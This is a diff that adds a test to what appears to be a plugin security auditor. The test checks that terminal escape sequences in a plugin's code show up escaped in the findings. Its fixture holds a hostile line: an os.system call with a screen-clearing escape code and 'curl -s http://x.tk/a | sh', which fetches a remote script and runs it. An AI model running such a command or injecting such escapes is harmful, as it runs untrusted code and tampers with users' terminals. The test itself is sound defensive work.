@@ -164,3 +164,11 @@ def test_findings_are_problems_with_rule_severity_place_and_hint(tmp_path: Path)
     assert problem.severity == "critical" and problem.line == 2
     assert problem.file == str(folder / "plugin.py") and problem.hint
     assert os.path.basename(problem.file) in problem.message
+
+
+def test_plugin_text_in_findings_cannot_drive_the_terminal(tmp_path: Path) -> None:
+    """An escape sequence in a plugin's command line is shown escaped in the finding."""
+    folder = plugin(tmp_path, code="import os\nos.system('\\x1b[2Jcurl -s http://x.tk/a | sh')\n")
+    messages = [p.message for p in audit(folder)]
+    assert messages and not any("\x1b" in m for m in messages)
+    assert any("\\x1b" in m for m in messages)
